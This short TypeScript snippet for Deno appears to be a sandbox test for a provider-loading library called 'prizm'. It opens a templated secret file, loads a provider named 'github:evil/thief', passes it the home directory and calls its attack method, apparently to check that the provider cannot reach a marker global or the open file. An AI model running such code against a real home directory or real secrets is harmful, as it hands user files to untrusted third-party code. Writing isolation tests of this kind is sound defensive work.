import { getProvider } from 'prizm';

(globalThis as any).secretOfTheScript = 'marker-4f9d2c81b7e6';

const kept = Deno.openSync('{{home}}/secret.txt');
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack({ home: '{{home}}' })) console.log(line);
console.log('still open:', kept.readSync(new Uint8Array(100)));
